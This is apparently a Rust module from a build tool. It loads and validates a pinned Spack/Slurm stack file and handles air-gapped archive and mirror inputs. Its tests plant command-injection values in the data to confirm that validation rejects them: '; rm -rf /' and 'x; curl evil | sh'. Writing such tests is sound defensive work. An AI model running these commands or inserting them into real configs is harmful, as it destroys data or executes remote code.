//! The pinned Slurm stack: which Spack commit, which package-repository commits, which package
//! versions and variants every cell builds, read from one data file (`data/spack-stack.yaml`,
//! embedded) and validated when loaded.
//!
//! Everything here ends up inside YAML, a Dockerfile or a shell script, so values are checked
//! against narrow character sets on load rather than escaped at each use.

use std::collections::BTreeMap;
use std::fmt;
use std::path::{Path, PathBuf};

use anyhow::Result;
use serde::{Deserialize, Serialize};
use sf_core::{bad_input, env};

/// The data file compiled into the binary.
pub const EMBEDDED: &str = include_str!("../../../data/spack-stack.yaml");

/// A full 40-hex git commit: the only ref form accepted, because branches and tags move.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct GitCommit(String);

impl GitCommit {
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl TryFrom<String> for GitCommit {
    type Error = String;
    fn try_from(s: String) -> std::result::Result<Self, String> {
        if s.len() == 40
            && s.bytes()
                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
        {
            Ok(GitCommit(s))
        } else {
            Err(format!("{s:?} is not a full 40-character lowercase git commit (branches and tags move, so they are refused)"))
        }
    }
}

impl From<GitCommit> for String {
    fn from(c: GitCommit) -> String {
        c.0
    }
}

impl fmt::Display for GitCommit {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A sha256 digest: 64 lowercase hex digits.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct Sha256Hex(String);

impl Sha256Hex {
    pub fn as_str(&self) -> &str {
        &self.0
    }
}

impl TryFrom<String> for Sha256Hex {
    type Error = String;
    fn try_from(s: String) -> std::result::Result<Self, String> {
        let s = s.to_ascii_lowercase();
        if s.len() == 64 && s.bytes().all(|b| b.is_ascii_hexdigit()) {
            Ok(Sha256Hex(s))
        } else {
            Err(format!("{s:?} is not a sha256 (64 hex digits)"))
        }
    }
}

impl From<Sha256Hex> for String {
    fn from(c: Sha256Hex) -> String {
        c.0
    }
}

impl fmt::Display for Sha256Hex {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

/// A local copy of a pinned tree, for builds that cannot reach its git server: a `.tar.gz` (or
/// `.tar`) holding the tree of the pinned commit under one top folder, as
/// `git archive --prefix=NAME/ COMMIT | gzip` writes it, checked against `sha256` before use.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct LocalArchive {
    pub file: PathBuf,
    pub sha256: Sha256Hex,
}

/// Spack itself.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SpackPin {
    pub git: String,
    /// The release the commit is, for people and labels.
    pub release: String,
    pub commit: GitCommit,
    /// The version of Spack's solver, clingo, installed from the Python package index (or the
    /// wheels of `python_wheels`) so that Spack never bootstraps it from GitHub.
    pub clingo: String,
    /// Air-gapped: the image takes Spack from this archive instead of cloning `git`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub archive: Option<LocalArchive>,
}

impl SpackPin {
    /// The version Spack reports (`spack --version`, `spack.__version__`): the release without
    /// its `v`.
    pub fn version(&self) -> &str {
        self.release.trim_start_matches('v')
    }
}

/// One Spack package repository, pinned.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RepoPin {
    pub namespace: String,
    pub git: String,
    pub commit: GitCommit,
    /// Where the package repository (its `repo.yaml`) is inside the git tree, as the tree's
    /// `spack-repo-index.yaml` says.
    pub path: String,
    /// Air-gapped: the image takes the tree from this archive instead of cloning `git`.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub archive: Option<LocalArchive>,
}

/// A package at a pinned version, with optional variants: `name@version variants`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PinnedSpec {
    pub name: String,
    pub version: String,
    #[serde(default)]
    pub variants: Option<String>,
    /// Only for these architectures (all when empty).
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub archs: Vec<String>,
}

impl PinnedSpec {
    /// Whether the spec is built for an architecture.
    pub fn applies_to(&self, arch: &str) -> bool {
        self.archs.is_empty() || self.archs.iter().any(|a| a == arch)
    }

    /// The Spack spec string.
    pub fn spec(&self) -> String {
        match &self.variants {
            Some(v) if !v.trim().is_empty() => {
                format!("{}@{} {}", self.name, self.version, v.trim())
            }
            _ => format!("{}@{}", self.name, self.version),
        }
    }
}

/// A package the build image's OS provides, used as is (never built): Spack's `externals`.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct External {
    pub name: String,
    pub version: String,
    /// Where the OS installed it (`/usr` for distribution packages).
    pub prefix: String,
}

/// How Slurm itself is specified (its version comes from the support matrix).
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SlurmSpec {
    pub namespace: String,
    #[serde(default)]
    pub variants: String,
    pub gpu_variants: String,
    pub cpu_variants: String,
    /// GPU variants for architectures where the default set does not build.
    #[serde(default)]
    pub gpu_variants_by_arch: BTreeMap<String, String>,
}

impl SlurmSpec {
    /// The variants that turn GPU support on or off for a build on `arch`.
    pub fn gpu_switch(&self, gpu: bool, arch: &str) -> &str {
        match (gpu, self.gpu_variants_by_arch.get(arch)) {
            (false, _) => &self.cpu_variants,
            (true, Some(v)) => v,
            (true, None) => &self.gpu_variants,
        }
    }
}

/// Per-toolchain additions to the build image.
#[derive(Clone, Debug, Default, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ToolchainExtras {
    /// Extra dnf repositories to enable when installing Lmod (EPEL's dependencies).
    #[serde(default)]
    pub dnf_repos: Vec<String>,
    /// OS packages the build image installs besides its base set: the development files of
    /// the stack's externals (a site's own libraries, or what an offline build cannot fetch).
    #[serde(default)]
    pub packages: Vec<String>,
}

/// The whole data file, validated.
#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Stack {
    pub schema: u32,
    pub spack: SpackPin,
    pub repos: Vec<RepoPin>,
    /// Where sources come from: an https mirror, or (air-gapped) a local directory in Spack's
    /// `spack mirror create` layout, given as an absolute path or a `file://` URL.
    pub source_mirror: String,
    /// Air-gapped: a directory of Python wheels (clingo and what it needs, for the image's
    /// Python) that the image installs Spack's solver from instead of the package index.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub python_wheels: Option<PathBuf>,
    pub slurm: SlurmSpec,
    pub with_slurm: Vec<PinnedSpec>,
    pub dependencies: Vec<PinnedSpec>,
    #[serde(default)]
    pub gpu_dependencies: Vec<PinnedSpec>,
    /// Packages taken from the build image's OS instead of being built (build tools, or
    /// libraries a site provides itself); none in the published stack.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub externals: Vec<External>,
    #[serde(default)]
    pub view_exclude: Vec<String>,
    #[serde(default)]
    pub toolchains: BTreeMap<String, ToolchainExtras>,
}

/// Package names, namespaces, repo names: Spack's identifier characters.
fn is_package_name(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 64
        && s.chars()
            .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '-' | '_'))
}

/// A distribution package name (Debian's and RPM's rules together): a letter or digit, then
/// lowercase letters, digits and `+-._`. Nothing a shell would read.
fn is_os_package(s: &str) -> bool {
    s.len() <= 128
        && s.starts_with(|c: char| c.is_ascii_lowercase() || c.is_ascii_digit())
        && s.chars().all(|c| {
            c.is_ascii_lowercase() || c.is_ascii_digit() || matches!(c, '+' | '-' | '.' | '_')
        })
}

/// A version: digits, letters, dots, dashes, underscores.
fn is_version(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 64
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | '_'))
}

/// Variants: `+x ~y key=value,value`. No quotes, no shell or YAML metacharacters.
fn is_variant_list(s: &str) -> bool {
    s.len() <= 256
        && s.chars().all(|c| {
            c.is_ascii_alphanumeric()
                || matches!(c, ' ' | '+' | '~' | '=' | ',' | '.' | '-' | '_' | '/')
        })
}

/// An https URL without characters that need quoting anywhere it is written.
fn is_https_url(s: &str) -> bool {
    s.starts_with("https://")
        && s.len() > 8
        && s.chars()
            .all(|c| c.is_ascii_alphanumeric() || matches!(c, ':' | '/' | '.' | '-' | '_' | '~'))
}

/// A path inside a repository: plain relative components only.
fn is_repo_path(s: &str) -> bool {
    !s.is_empty()
        && s.len() <= 200
        && s.split('/').all(|c| {
            !c.is_empty()
                && c != "."
                && c != ".."
                && c.chars()
                    .all(|ch| ch.is_ascii_alphanumeric() || matches!(ch, '-' | '_' | '.'))
        })
}

impl Stack {
    /// The local source mirror directory, when `source_mirror` names one.
    pub fn local_source_mirror(&self) -> Option<PathBuf> {
        let s = self.source_mirror.trim();
        let path = s.strip_prefix("file://").unwrap_or(s);
        let p = Path::new(path);
        (p.is_absolute() && !path.contains(['\n', '"', '\'', '$', '`'])).then(|| p.to_path_buf())
    }

    /// The embedded data file.
    pub fn embedded() -> Self {
        Self::parse(EMBEDDED, "data/spack-stack.yaml").expect("the embedded stack file is valid")
    }

    /// Load from a file, or the embedded data when `path` is `None`.
    pub fn load(path: Option<&Path>) -> Result<Self> {
        match path {
            None => Ok(Self::embedded()),
            Some(p) => {
                let text = sf_core::datafile::read_text(p, "stack data file")?;
                Self::parse(&text, &p.display().to_string())
            }
        }
    }

    /// Parse and validate; errors are bad input and name the file.
    pub fn parse(text: &str, origin: &str) -> Result<Self> {
        let s: Stack = sf_core::datafile::from_yaml(text, origin, "stack file")?;
        s.validate()
            .map_err(|msg| bad_input(format!("{origin}: {msg}")))?;
        Ok(s)
    }

    fn validate(&self) -> std::result::Result<(), String> {
        if self.schema != 1 {
            return Err(format!("schema {} is not supported; valid: 1", self.schema));
        }
        if !is_https_url(&self.spack.git) {
            return Err(format!(
                "spack.git {:?} must be an https URL",
                self.spack.git
            ));
        }
        if !is_version(self.spack.release.trim_start_matches('v')) {
            return Err(format!(
                "spack.release {:?} is not a release name like v1.0.2",
                self.spack.release
            ));
        }
        if !is_version(&self.spack.clingo)
            || !self.spack.clingo.starts_with(|c: char| c.is_ascii_digit())
        {
            return Err(format!(
                "spack.clingo {:?} is not one exact version like 5.8.3",
                self.spack.clingo
            ));
        }
        if self.repos.is_empty() {
            return Err("repos is empty; it needs at least Spack's builtin repository".into());
        }
        for r in &self.repos {
            if !is_package_name(&r.namespace) {
                return Err(format!(
                    "repos: namespace {:?} is not a Spack namespace",
                    r.namespace
                ));
            }
            if !is_https_url(&r.git) {
                return Err(format!(
                    "repos.{}: git {:?} must be an https URL",
                    r.namespace, r.git
                ));
            }
        }
        if !is_https_url(&self.source_mirror) && self.local_source_mirror().is_none() {
            return Err(format!(
                "source_mirror {:?} must be an https URL, or an absolute path (or file:// URL) of a local source mirror",
                self.source_mirror
            ));
        }
        for (what, archive) in std::iter::once(("spack", &self.spack.archive)).chain(
            self.repos
                .iter()
                .map(|r| (r.namespace.as_str(), &r.archive)),
        ) {
            if let Some(a) = archive {
                if !a.file.is_absolute() {
                    return Err(format!(
                        "{what}: archive file {:?} must be an absolute path",
                        a.file
                    ));
                }
            }
        }
        for r in &self.repos {
            if !is_repo_path(&r.path) {
                return Err(format!(
                    "repos.{}: path {:?} must be a relative path inside the repository, like spack_repo/{}",
                    r.namespace, r.path, r.namespace
                ));
            }
        }
        if let Some(w) = &self.python_wheels {
            if !w.is_absolute() {
                return Err(format!("python_wheels {w:?} must be an absolute path"));
            }
        }
        if !self
            .repos
            .iter()
            .any(|r| r.namespace == self.slurm.namespace)
        {
            return Err(format!(
                "slurm.namespace {:?} is not one of the repos",
                self.slurm.namespace
            ));
        }
        let by_arch = self
            .slurm
            .gpu_variants_by_arch
            .values()
            .map(|v| ("slurm.gpu_variants_by_arch", v));
        for (what, v) in [
            ("slurm.variants", &self.slurm.variants),
            ("slurm.gpu_variants", &self.slurm.gpu_variants),
            ("slurm.cpu_variants", &self.slurm.cpu_variants),
        ]
        .into_iter()
        .chain(by_arch)
        {
            if !is_variant_list(v) {
                return Err(format!(
                    "{what} {v:?} may only hold variants like +x ~y key=value"
                ));
            }
        }
        let mut seen = std::collections::BTreeSet::new();
        for (section, list) in [
            ("with_slurm", &self.with_slurm),
            ("dependencies", &self.dependencies),
            ("gpu_dependencies", &self.gpu_dependencies),
        ] {
            for p in list {
                if !is_package_name(&p.name) {
                    return Err(format!("{section}: {:?} is not a package name", p.name));
                }
                if !is_version(&p.version) {
                    return Err(format!(
                        "{section}.{}: version {:?} must be one exact version",
                        p.name, p.version
                    ));
                }
                if let Some(v) = &p.variants {
                    if !is_variant_list(v) {
                        return Err(format!(
                            "{section}.{}: variants {v:?} may only hold +x ~y key=value",
                            p.name
                        ));
                    }
                }
                if let Some(bad) = p.archs.iter().find(|a| !is_package_name(a)) {
                    return Err(format!(
                        "{section}.{}: arch {bad:?} is not an architecture name",
                        p.name
                    ));
                }
                if p.name == "slurm" {
                    return Err(format!(
                        "{section}: slurm is pinned by the support matrix, not here"
                    ));
                }
                if !seen.insert(p.name.as_str()) {
                    return Err(format!("{section}: {} is pinned twice", p.name));
                }
            }
        }
        for e in &self.externals {
            if !is_package_name(&e.name) || !is_version(&e.version) {
                return Err(format!(
                    "externals: {:?}@{:?} is not a package name and one exact version",
                    e.name, e.version
                ));
            }
            let absolute =
                e.prefix == "/" || (e.prefix.starts_with('/') && is_repo_path(&e.prefix[1..]));
            if !absolute {
                return Err(format!(
                    "externals.{}: prefix {:?} must be an absolute path",
                    e.name, e.prefix
                ));
            }
        }
        if let Some(bad) = self.view_exclude.iter().find(|n| !is_package_name(n)) {
            return Err(format!("view_exclude: {bad:?} is not a package name"));
        }
        for (tc, extras) in &self.toolchains {
            if let Some(bad) = extras.dnf_repos.iter().find(|r| !is_package_name(r)) {
                return Err(format!(
                    "toolchains.{tc}: dnf repo {bad:?} is not a repository id"
                ));
            }
            if let Some(bad) = extras.packages.iter().find(|p| !is_os_package(p)) {
                return Err(format!(
                    "toolchains.{tc}: OS package {bad:?} is not a package name (lowercase letters, \
                     digits, and + - . _ after the first character)"
                ));
            }
        }
        Ok(())
    }

    /// Extras for a toolchain (none when it has no entry).
    pub fn toolchain(&self, name: &str) -> ToolchainExtras {
        self.toolchains.get(name).cloned().unwrap_or_default()
    }
}

/// Air-gapped inputs named on the command line (or `SF_*` variables), over the stack file's.
#[derive(clap::Args, Debug, Default, Clone)]
pub struct LocalInputArgs {
    /// Take a pinned tree from a local archive instead of its git URL: NAME is `spack` or a
    /// repo namespace (e.g. `builtin`), FILE a .tar.gz of the pinned commit's tree under one top
    /// folder (`git archive --prefix=NAME/ COMMIT | gzip`). Needs --archive-sha256 NAME=HEX.
    #[arg(long = "archive", env = env::ARCHIVES, value_name = "NAME=FILE", value_delimiter = ',')]
    pub archives: Vec<String>,
    /// The sha256 each --archive must have.
    #[arg(long = "archive-sha256", env = env::ARCHIVE_SHA256S, value_name = "NAME=HEX", value_delimiter = ',')]
    pub archive_sha256s: Vec<String>,
    /// Sources from a local mirror (`spack mirror create` layout: an absolute directory or
    /// file:// URL) or another https mirror, instead of the stack file's.
    #[arg(long, env = env::SOURCE_MIRROR, value_name = "DIR|URL")]
    pub source_mirror: Option<String>,
    /// Install Spack's solver (clingo) in the image from this directory of wheels instead of
    /// the package index.
    #[arg(long, env = env::PYTHON_WHEELS, value_name = "DIR")]
    pub python_wheels: Option<PathBuf>,
}

fn name_value<'a>(flag: &str, s: &'a str) -> Result<(&'a str, &'a str)> {
    s.split_once('=')
        .filter(|(n, v)| !n.is_empty() && !v.is_empty())
        .ok_or_else(|| bad_input(format!("{flag} {s:?} is not NAME=VALUE")))
}

impl LocalInputArgs {
    /// The stack with these inputs in place of its own; bad input names the flag and what is
    /// valid.
    pub fn apply(&self, mut stack: Stack) -> Result<Stack> {
        let mut sums = BTreeMap::new();
        for s in &self.archive_sha256s {
            let (name, hex) = name_value("--archive-sha256", s)?;
            let sha = Sha256Hex::try_from(hex.to_string())
                .map_err(|e| bad_input(format!("--archive-sha256 {name}: {e}")))?;
            sums.insert(name.to_string(), sha);
        }
        let namespaces: Vec<&str> = stack.repos.iter().map(|r| r.namespace.as_str()).collect();
        let valid = format!("valid: spack, {}", namespaces.join(", "));
        let mut used = std::collections::BTreeSet::new();
        for a in &self.archives {
            let (name, file) = name_value("--archive", a)?;
            let Some(sha256) = sums.get(name).cloned() else {
                return Err(bad_input(format!(
                    "--archive {name}={file} has no sha256: give --archive-sha256 {name}=HEX too"
                )));
            };
            let archive = Some(LocalArchive {
                file: std::path::absolute(file)?,
                sha256,
            });
            if name == "spack" {
                stack.spack.archive = archive;
            } else if let Some(r) = stack.repos.iter_mut().find(|r| r.namespace == name) {
                r.archive = archive;
            } else {
                return Err(bad_input(format!(
                    "--archive {name}: no such input in the stack ({valid})"
                )));
            }
            used.insert(name.to_string());
        }
        if let Some(unused) = sums.keys().find(|n| !used.contains(*n)) {
            return Err(bad_input(format!(
                "--archive-sha256 {unused}=... has no --archive {unused}=FILE"
            )));
        }
        if let Some(m) = &self.source_mirror {
            stack.source_mirror = match m.strip_prefix("file://").unwrap_or(m) {
                p if Path::new(p).is_relative() && !m.starts_with("https://") => {
                    std::path::absolute(p)?.display().to_string()
                }
                _ => m.clone(),
            };
        }
        if let Some(w) = &self.python_wheels {
            stack.python_wheels = Some(std::path::absolute(w)?);
        }
        stack
            .validate()
            .map_err(|msg| bad_input(format!("the stack with the local inputs given: {msg}")))?;
        Ok(stack)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn embedded_stack_is_valid_and_every_package_is_pinned() {
        let s = Stack::embedded();
        assert_eq!(
            s.spack.commit.as_str(),
            "5efd8eea1b8ea701074d72372a4acf0a972d736b"
        );
        for p in s
            .dependencies
            .iter()
            .chain(&s.with_slurm)
            .chain(&s.gpu_dependencies)
        {
            assert!(
                p.spec().starts_with(&format!("{}@{}", p.name, p.version)),
                "{}",
                p.spec()
            );
        }
        assert!(s.repos.iter().any(|r| r.namespace == "builtin"));
    }

    #[test]
    fn moving_refs_and_metacharacters_are_refused() {
        let branch = EMBEDDED.replacen(
            "commit: 5efd8eea1b8ea701074d72372a4acf0a972d736b",
            "commit: releases/v1.0",
            1,
        );
        let e = Stack::parse(&branch, "s.yaml").unwrap_err();
        assert!(e.to_string().contains("40-character"), "{e}");
        assert_eq!(sf_core::exit::code_for(&e), 2);

        let inject = EMBEDDED.replacen(
            "variants: +client_only",
            "variants: \"+client_only; rm -rf /\"",
            1,
        );
        assert!(Stack::parse(&inject, "s.yaml")
            .unwrap_err()
            .to_string()
            .contains("mysql"));

        let dup = EMBEDDED.replacen(
            "{ name: lz4, version: 1.10.0 }",
            "{ name: munge, version: 1.10.0 }",
            1,
        );
        assert!(Stack::parse(&dup, "s.yaml")
            .unwrap_err()
            .to_string()
            .contains("twice"));

        let unknown = EMBEDDED.replacen("\nsource_mirror:", "\ncolour: red\nsource_mirror:", 1);
        assert!(Stack::parse(&unknown, "s.yaml")
            .unwrap_err()
            .to_string()
            .contains("colour"));
    }

    #[test]
    fn a_toolchain_may_add_os_packages_but_only_names() {
        let with = EMBEDDED.replacen(
            "rockylinux9: { dnf_repos: [crb] }",
            "rockylinux9: { dnf_repos: [crb], packages: [munge-devel, libjwt-devel] }",
            1,
        );
        let s = Stack::parse(&with, "s.yaml").unwrap();
        assert_eq!(
            s.toolchain("rockylinux9").packages,
            ["munge-devel", "libjwt-devel"]
        );
        assert!(s.toolchain("noble").packages.is_empty());
        for bad in ["\"x; curl evil | sh\"", "Libjwt", "-y", "\"a b\""] {
            let text = EMBEDDED.replacen(
                "rockylinux9: { dnf_repos: [crb] }",
                &format!("rockylinux9: {{ packages: [{bad}] }}"),
                1,
            );
            let e = Stack::parse(&text, "s.yaml").unwrap_err();
            assert!(e.to_string().contains("OS package"), "{bad}: {e}");
            assert_eq!(sf_core::exit::code_for(&e), 2);
        }
    }
}
